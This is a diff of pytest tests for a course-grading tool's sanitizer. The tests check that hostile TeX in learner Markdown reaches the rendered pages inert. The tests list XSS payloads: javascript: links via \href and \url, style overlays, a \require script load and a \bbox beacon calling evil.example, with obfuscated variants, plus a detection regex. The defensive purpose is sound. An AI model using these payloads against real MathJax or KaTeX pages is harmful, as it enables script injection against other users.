@@ -166,3 +166,100 @@ def test_cleaning_twice_changes_nothing_more():
     assert untrusted.clean_markdown(once) == once
     forged = '<div class="cudacourse-sanitized"><img src=x onerror=alert(1)></div>'
     assert "onerror" not in untrusted.clean_markdown(forged)  # the prefix buys nothing
+
+
+# TeX a learner may write in Markdown; MathJax (formgrader's and feedback's pages) or KaTeX
+# would turn each into a link, markup, a style or a script load if the command were left live
+HOSTILE_TEX = {
+    "href javascript": r"$\href{javascript:document.title='pwned'}{click}$",
+    "url": r"$\url{javascript:alert(1)}$",
+    "class hook": r"$\class{gradebook}{x}$",
+    "style overlay": r"$$\style{position:fixed;top:0;left:0;width:100%;height:100%}{x}$$",
+    "cssId": r"\(\cssId{formgrader}{x}\)",
+    "data attribute": r"\[\data{toggle=modal}{x}\]",
+    "unicode font": r"$\unicode[Evil Font]{x41}$",
+    "require": r"$\require{https://evil.example/x.js}$",
+    "bbox style": r"$\bbox[background:url(https://evil.example/beacon)]{x}$",
+    "tooltip": r"$\texttip{x}{pwned} \toggle{a}{b}\endtoggle \mathtip{x}{y}$",
+    "katex html": r"$\htmlClass{x}{y} \htmlStyle{color:red}{z} \includegraphics{x.png}$",
+    "environment": "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
+    "macro spelling href": r"$\def\h#1{\hre#1}\h{f}{javascript:alert(1)}{x}$",
+    "newcommand": r"$\newcommand{\h}{\hr}\let\u\url$",
+    "entity backslash": r"&#92;(&#92;href{javascript:alert(1)}{x}&#92;)",
+    "entity letters": r"&#92;(&#92;&#104;&#114;ef{javascript:alert(1)}{x}&#92;)",
+    "split by a tag": r"\(\h<b>r</b>ef{javascript:alert(1)}{x}\)",
+    "mixed case": r"$\HREF{javascript:alert(1)}{x} \Href{x}{y}$",
+    "in a link's text": r"[$\href{javascript:alert(1)}{x}$](https://example.org)",
+    "in a table": "| a |\n|---|\n| $\\href{javascript:alert(1)}{x}$ |",
+}
+# What MathJax reads: the text of the page, across tags, character references decoded
+LIVE_TEX = re.compile(r"\\(href|url|class|style|cssId|data|unicode|require|html\w*|bbox|"
+                      r"texttip|toggle|mathtip|includegraphics|def|newcommand|let)(?![a-z])",
+                      re.I)
+
+
+def _page_text(html: str) -> str:
+    from html.parser import HTMLParser
+
+    out: list[str] = []
+
+    class Text(HTMLParser):
+        def handle_data(self, data: str) -> None:
+            out.append(data)
+
+    p = Text(convert_charrefs=True)
+    p.feed(html)
+    p.close()
+    return "".join(out)
+
+
+@pytest.mark.parametrize("label", list(HOSTILE_TEX))
+def test_hostile_tex_reaches_the_page_inert(label):
+    cleaned = untrusted.clean_markdown(HOSTILE_TEX[label])
+    html = markdown2html(cleaned)  # rendered again, as the pages' templates do
+    assert html.strip() == cleaned.strip()
+    shown = _page_text(html)
+    assert not LIVE_TEX.search(shown), (label, shown)
+    assert untrusted.INERT_BACKSLASH in shown  # the learner's text is still shown, as text
+    again = _page_text(untrusted.clean_markdown(cleaned))  # feedback cleans once more
+    assert not LIVE_TEX.search(again) and untrusted.INERT_BACKSLASH in again
+
+
+def test_hostile_tex_is_inert_in_a_raw_cell_and_in_the_grading_note():
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_raw_cell(HOSTILE_TEX["href javascript"])]
+    raw = untrusted.clean_notebook(nb).cells[0].source
+    assert not LIVE_TEX.search(_page_text(raw))
+    note = markdown2html(untrusted.markdown_text("incident: " + HOSTILE_TEX["environment"]))
+    assert not LIVE_TEX.search(_page_text(note)) and untrusted.INERT_BACKSLASH in note
+
+
+def test_ordinary_tex_keeps_its_meaning():
+    source = (r"$\frac{a}{b} + \sqrt{x_i}$, $$\sum_{i=0}^{n} \alpha_i \cdot \mathbf{v}$$ "
+              r"\(\left(\text{threads} \times \mathrm{blocks}\right)\) $\hat{x}\,\delta$ "
+              r"$\underline{u} \dfrac{1}{2}$" "\n")
+    shown = _page_text(markdown2html(untrusted.clean_markdown(source)))
+    for part in (r"\frac{a}{b}", r"\sqrt{x_i}", r"\sum_{i=0}^{n}", r"\alpha_i", r"\mathbf{v}",
+                 r"\left(\text{threads} \times \mathrm{blocks}\right)", r"\hat{x}\,\delta",
+                 r"\underline{u} \dfrac{1}{2}"):
+        assert part in shown, part
+
+
+def test_the_pages_load_mathjax_with_its_safe_extension():
+    """The second line, in the pages nbgrader renders (formgrader's view, the feedback HTML):
+    both templates call nbconvert's ``mathjax()`` macro, whose default loads MathJax's Safe
+    extension (links limited to safe schemes, no \\class/\\cssId outside MathJax's own, no
+    \\require of other files)."""
+    from pathlib import Path
+
+    import nbgrader
+    from jupyter_core.paths import jupyter_path
+
+    macro = next(Path(d) / "mathjax.html.j2" for d in jupyter_path("nbconvert", "templates",
+                                                                  "base")
+                 if (Path(d) / "mathjax.html.j2").is_file())
+    default = re.search(r'macro mathjax\(url="([^"]+)"\)', macro.read_text())
+    assert default and default.group(1).endswith(",Safe"), macro
+    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
+    for page in ("formgrade/index.html.j2", "feedback/index.html.j2"):
+        assert "{{ mathjax() }}" in (templates / page).read_text(), page
